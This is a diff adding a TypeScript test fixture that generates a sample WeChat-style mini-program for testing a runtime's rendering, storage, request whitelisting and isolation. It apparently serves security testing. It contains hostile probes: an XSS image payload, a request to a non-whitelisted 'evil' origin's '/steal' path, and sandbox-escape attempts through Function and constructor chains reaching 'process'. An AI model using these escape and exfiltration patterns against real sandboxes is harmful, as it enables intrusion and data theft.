@@ -1,0 +1,125 @@
+// A WeChat-style sample mini-program (source, compiled by the real compiler in the tests): a
+// counter, a keyed list with inputs, navigation, storage, requests and isolation probes, plus
+// filler pages so the package has `pages` pages in total (20 for the cold-start benchmark).
+
+export interface SampleOptions {
+  /** Whitelisted API origin (http://127.0.0.1:port). */
+  api: string;
+  /** Origin that is NOT whitelisted. */
+  evil: string;
+  /** Tag the app writes to storage (tells two apps apart). */
+  tag: string;
+  pages?: number;
+  /** Adds pages/big/big with a keyed list of this many rows (setData round-trip benchmark). */
+  bigList?: number;
+}
+
+export function sampleSource(o: SampleOptions): Record<string, string> {
+  const total = Math.max(o.pages ?? 3, 3);
+  const filler = Array.from({ length: total - 3 }, (_, i) => `pages/p${i + 1}/p${i + 1}`);
+  const files: Record<string, string> = {
+    'app.json': JSON.stringify({
+      pages: ['pages/index/index', 'pages/detail/detail', 'pages/probe/probe', ...filler],
+      window: { navigationBarTitleText: 'Sample' },
+    }),
+    'app.js': `App({ globalData: { tag: ${JSON.stringify(o.tag)} }, onLaunch() { this.launched = true; } });`,
+    'app.wxss': 'page { font-size: 14px; } .row { padding: 4rpx; }',
+    'pages/index/index.wxml': `
+<view id="count" class="count" bindtap="inc">count {{count}}</view>
+<button id="reverse" bindtap="reverse">reverse</button>
+<view class="list">
+  <view wx:for="{{items}}" wx:key="id" class="row" data-id="{{item.id}}"><text>{{item.name}}</text><input class="in" value="{{item.name}}"/></view>
+</view>
+<navigator id="go" url="/pages/detail/detail?id=7">detail</navigator>
+<button id="save" bindtap="save">save</button>
+<view id="stored">{{stored}}</view>
+<button id="req-ok" bindtap="reqOk">ok</button>
+<button id="req-evil" bindtap="reqEvil">evil</button>
+<view id="req-result">{{reqResult}}</view>
+<view id="probe">{{probe}}</view>
+<view id="xss">{{html}}</view>
+`,
+    'pages/index/index.js': `
+Page({
+  data: {
+    count: 0,
+    items: [{ id: 'a', name: 'alpha' }, { id: 'b', name: 'beta' }, { id: 'c', name: 'gamma' }, { id: 'd', name: 'delta' }],
+    stored: '', reqResult: '', probe: '', html: '<img src=x onerror="parent.pwned=1">'
+  },
+  onLoad() {
+    var g = typeof globalThis !== 'undefined' ? globalThis : {};
+    var probe = ['fetch', 'XMLHttpRequest', 'WebSocket', 'indexedDB', 'caches', 'importScripts', 'localStorage', 'document', 'Worker']
+      .map(function (k) { return k + ':' + typeof g[k]; }).join(',');
+    this.setData({ probe: probe, stored: String(wx.getStorageSync('secret') || '') });
+  },
+  inc() { this.setData({ count: this.data.count + 1 }); },
+  reverse() { this.setData({ items: this.data.items.slice().reverse() }); },
+  save() {
+    wx.setStorageSync('secret', getApp().globalData.tag);
+    this.setData({ stored: wx.getStorageSync('secret') });
+  },
+  reqOk() {
+    var self = this;
+    wx.request({ url: ${JSON.stringify(`${o.api}/hello`)},
+      success: function (r) { self.setData({ reqResult: 'ok:' + r.data.msg }); },
+      fail: function (e) { self.setData({ reqResult: 'fail:' + e.errMsg }); } });
+  },
+  reqEvil() {
+    var self = this;
+    wx.request({ url: ${JSON.stringify(`${o.evil}/steal?c=1`)},
+      success: function () { self.setData({ reqResult: 'evil-ok' }); },
+      fail: function (e) { self.setData({ reqResult: 'fail:' + e.errMsg }); } });
+  }
+});
+`,
+    'pages/detail/detail.wxml':
+      '<view id="detail">detail {{id}}</view><button id="back" bindtap="back">back</button>',
+    'pages/detail/detail.js': `Page({ data: { id: '' }, onLoad(q) { this.setData({ id: q.id }); }, back() { wx.navigateBack(); } });`,
+    'pages/probe/probe.wxml': '<view id="escapes">{{escapes}}</view>',
+    // Hostile code: tries to get back to the host realm through every constructor it can reach.
+    'pages/probe/probe.js': `
+function attempt(name, fn) {
+  try { var v = fn(); return name + ':' + (v === undefined ? 'undefined' : 'ESCAPED'); }
+  catch (e) { return name + ':' + (e && e.name); }
+}
+Page({
+  data: { escapes: '' },
+  onLoad() {
+    var self = this;
+    var out = [
+      attempt('Function', function () { return Function('return typeof process')() === 'object' ? 1 : undefined; }),
+      attempt('wx.constructor', function () { return wx.constructor.constructor('return process')(); }),
+      attempt('setData.constructor', function () { return self.setData.constructor('return process')(); }),
+      attempt('eval', function () { return (0, eval)('1'); })
+    ];
+    this.setData({ escapes: out.join(',') });
+  }
+});`,
+  };
+  if (o.bigList) {
+    const app = JSON.parse(files['app.json']!) as { pages: string[] };
+    app.pages.push('pages/big/big');
+    files['app.json'] = JSON.stringify(app);
+    files['pages/big/big.wxml'] =
+      '<button id="all" bindtap="reverseAll">all</button><button id="one" bindtap="touchOne">one</button>' +
+      '<view class="list"><view wx:for="{{list}}" wx:key="id" class="row"><text>{{item.id}}</text> <text>{{item.label}}</text></view></view>';
+    files['pages/big/big.js'] = `
+var N = ${o.bigList};
+function make() { var a = []; for (var i = 0; i < N; i++) a.push({ id: i, label: 'row ' + i }); return a; }
+Page({
+  data: { list: make(), n: 0 },
+  reverseAll() { this.setData({ list: this.data.list.slice().reverse() }); },
+  touchOne() { this.data.n++; this.setData({ ['list[' + (N >> 1) + '].label']: 'touched ' + this.data.n }); }
+});`;
+  }
+  filler.forEach((p, i) => {
+    const next = filler[i + 1];
+    files[`${p}.wxml`] =
+      '<view class="title">{{title}}</view><view wx:for="{{rows}}" wx:key="*this" class="row">{{index}}: {{item}}</view>' +
+      (next ? `<navigator id="next" url="/${next}">next</navigator>` : '');
+    files[`${p}.js`] =
+      `Page({ data: { title: ${JSON.stringify(p)}, rows: ${JSON.stringify(Array.from({ length: 20 }, (_, i) => `row ${i}`))} } });`;
+    files[`${p}.wxss`] = '.title { font-weight: bold; }';
+  });
+  return files;
+}
